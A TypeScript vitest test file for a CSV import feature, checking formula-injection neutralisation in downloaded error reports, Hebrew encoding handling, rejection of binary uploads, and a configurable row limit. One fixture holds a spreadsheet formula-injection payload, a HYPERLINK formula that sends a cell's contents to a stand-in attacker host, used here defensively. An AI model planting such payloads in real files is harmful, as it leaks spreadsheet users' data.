import { parse } from 'csv-parse/sync';
import iconv from 'iconv-lite';
import { afterEach, beforeAll, describe, expect, it } from 'vitest';
import { toSafeCsv } from '../../platform/csv.ts';
import { createTestWorkspace, getTestApp, type TestApp, type TestWorkspace } from '../../test/harness.ts';
import { multipart as formData } from '../../test/uploads.ts';

/** What a user sees of the files they upload: safe reports, honest encodings, limits stated. */

let t: TestApp;
let ws: TestWorkspace;

beforeAll(async () => {
  t = await getTestApp();
  ws = await createTestWorkspace(t);
});

const savedLimit = process.env.KLIENT_IMPORT_MAX_ROWS;
afterEach(() => {
  // The worker's other test files share this process.
  if (savedLimit === undefined) delete process.env.KLIENT_IMPORT_MAX_ROWS;
  else process.env.KLIENT_IMPORT_MAX_ROWS = savedLimit;
});

function multipart(fields: Record<string, string>, file: Buffer, filename: string) {
  return formData([
    ...Object.entries(fields).map(([name, value]) => ({ name, value })),
    { name: 'file', value: file, filename },
  ]);
}

async function importAndWait(
  w: TestWorkspace,
  file: Buffer,
  fields: Record<string, string>,
  headers: Record<string, string> = {},
) {
  const body = multipart(fields, file, 'file.csv');
  const res = await w.request({
    method: 'POST',
    url: '/api/v1/imports',
    payload: body.payload,
    headers: { ...body.headers, ...headers },
  });
  expect(res.statusCode, res.body).toBe(202);
  const id = res.json().id as string;
  for (let i = 0; i < 300; i++) {
    const state = (await w.request({ method: 'GET', url: `/api/v1/imports/${id}`, headers })).json();
    if (state.status === 'completed' || state.status === 'failed') return state;
    await new Promise((resolve) => setTimeout(resolve, 100));
  }
  throw new Error('import did not finish');
}

const FORMULA = /^[=+\-@\t\r]/;

describe('files the server writes open safely in Excel', () => {
  it('an import error report for a row holding =HYPERLINK(...) downloads with every cell neutralised', async () => {
    const w = await createTestWorkspace(t);
    const evil = '=HYPERLINK("https://evil.example/steal?d="&A1,"click")';
    const header = `שם פרטי,טלפון,"${evil.replace(/"/g, '""')}"`;
    const rows = [
      `דנה,0501234567,"${evil.replace(/"/g, '""')}"`,
      'יוסי,@SUM(1+1),yossi@example.com',
      'רון,-2+3,ron@example.com',
    ];
    const file = Buffer.from([header, ...rows].join('\n'));
    const done = await importAndWait(w, file, {
      kind: 'customers',
      mapping: JSON.stringify({ firstName: 'שם פרטי', phone: 'טלפון', email: evil }),
    });
    expect(done.errorRows).toBe(3);

    const res = await w.request({ method: 'GET', url: `/api/v1/imports/${done.id}/errors.csv` });
    expect(res.statusCode).toBe(200);
    expect(res.headers['content-type']).toContain('text/csv');
    const cells = (parse(res.rawPayload, { bom: true }) as string[][]).flat();
    expect(cells.length).toBeGreaterThan(6);
    // Not one cell Excel would run: the column named by the file's formula header comes back quoted.
    expect(cells.filter((c) => FORMULA.test(c))).toEqual([]);
    expect(cells).toContain(`'${evil}`);
    expect(res.body).not.toMatch(/(^|,|\n)=HYPERLINK/);
  });

  it('a phone or an amount that starts with + or - is prefixed too, and Klient reads the file back without the apostrophe', async () => {
    const csv = toSafeCsv([
      ['first name', 'phone', 'note'],
      ['Tamar', '+972501112233', '-12.50 credit'],
      ['Gil', '+972-52-444-5566', '@home'],
    ]);
    const lines = csv
      .replace(/^\uFEFF/, '')
      .trim()
      .split('\n');
    expect(lines).toEqual([
      'first name,phone,note',
      "Tamar,'+972501112233,'-12.50 credit",
      "Gil,'+972-52-444-5566,'@home",
    ]);
    const w = await createTestWorkspace(t);
    const done = await importAndWait(w, Buffer.from(csv), {
      kind: 'customers',
      mapping: JSON.stringify({ firstName: 'first name', phone: 'phone' }),
    });
    expect(done).toMatchObject({ status: 'completed', insertedRows: 2, errorRows: 0 });
    const found = await w.request({ method: 'GET', url: '/api/v1/customers?q=tamar' });
    expect(found.json().items[0]).toMatchObject({ firstName: 'Tamar', phone: '+972501112233' });
  });
});

describe('encodings, per file and honest, as the user sees them', () => {
  it('reads a mostly-UTF-8 file as UTF-8 and reports the rows with bad bytes as row errors', async () => {
    const w = await createTestWorkspace(t);
    const file = Buffer.concat([
      Buffer.from('שם פרטי,שם משפחה,טלפון\nדנה,כהן,0501000001\n'),
      iconv.encode('אבי,לוי,0501000002\n', 'windows-1255'),
      Buffer.from('מיכל,אברהם,0501000003\n'),
    ]);
    const preview = await w.request({
      method: 'POST',
      url: '/api/v1/imports/preview',
      ...multipart({}, file, 'm.csv'),
    });
    expect(preview.json()).toMatchObject({ encoding: 'utf-8', headers: ['שם פרטי', 'שם משפחה', 'טלפון'] });
    const done = await importAndWait(w, file, { kind: 'customers' }, { 'accept-language': 'en' });
    expect(done).toMatchObject({ status: 'completed', totalRows: 3, processedRows: 3, insertedRows: 2, errorRows: 1 });
    expect(done.errors).toEqual([
      expect.objectContaining({ row: 3, column: null, reason: expect.stringContaining('invalid characters') }),
    ]);
    const found = await w.request({ method: 'GET', url: `/api/v1/customers?q=${encodeURIComponent('אברהם')}` });
    expect(found.json().items[0]).toMatchObject({ firstName: 'מיכל', lastName: 'אברהם' });
  });

  it('refuses random bytes and a PNG renamed .csv with a clear "not a text table" problem', async () => {
    const w = await createTestWorkspace(t);
    let s = 7;
    const next = () => {
      s = (s * 1103515245 + 12345) >>> 0;
      return s >>> 24;
    };
    const random = Buffer.from(Array.from({ length: 5000 }, next));
    const png = Buffer.concat([Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]), random.subarray(0, 300)]);
    for (const file of [random, png]) {
      for (const url of ['/api/v1/imports/preview', '/api/v1/imports']) {
        const body = multipart({ kind: 'customers' }, file, 'people.csv');
        const res = await w.request({
          method: 'POST',
          url,
          payload: body.payload,
          headers: { ...body.headers, 'accept-language': 'en' },
        });
        expect(res.statusCode).toBe(400);
        expect(res.json()).toMatchObject({
          code: 'IMPORT.BAD_FILE',
          reason: 'file.not_text_table',
          detail: expect.stringContaining('not a text table'),
          errors: [expect.objectContaining({ field: 'file' })],
        });
      }
    }
    expect((await w.request({ method: 'GET', url: '/api/v1/imports' })).json().items).toHaveLength(0);
  });
});

describe('a broken upload', () => {
  it('is a 400 naming the file, not a 500, when the multipart body never ends', async () => {
    const body = multipart({ kind: 'customers' }, Buffer.from('a,b\n1,2\n'), 'x.csv');
    const res = await ws.request({
      method: 'POST',
      url: '/api/v1/imports/preview',
      payload: body.payload.subarray(0, body.payload.length - 20),
      headers: body.headers,
    });
    expect(res.statusCode).toBe(400);
    expect(res.json().errors).toEqual([expect.objectContaining({ field: 'file' })]);
  });
});

describe('the row limit', () => {
  it('is KLIENT_IMPORT_MAX_ROWS, and a file over it is a 400 that states it', async () => {
    const w = await createTestWorkspace(t);
    process.env.KLIENT_IMPORT_MAX_ROWS = '5';
    const file = (n: number) =>
      Buffer.from(['first name,email', ...Array.from({ length: n }, (_, i) => `p${i},p${i}@example.com`)].join('\n'));
    const six = multipart({ kind: 'customers' }, file(6), 'six.csv');
    const over = await w.request({
      method: 'POST',
      url: '/api/v1/imports',
      payload: six.payload,
      headers: { ...six.headers, 'accept-language': 'en' },
    });
    expect(over.statusCode).toBe(400);
    expect(over.json()).toMatchObject({
      reason: 'file.too_many_rows',
      limit: 5,
      detail: expect.stringContaining('5 rows'),
    });
    const he = await w.request({ method: 'POST', url: '/api/v1/imports', ...six });
    expect(he.json().detail).toContain('5');
    const done = await importAndWait(w, file(5), { kind: 'customers' });
    expect(done).toMatchObject({ status: 'completed', insertedRows: 5 });
  });
});
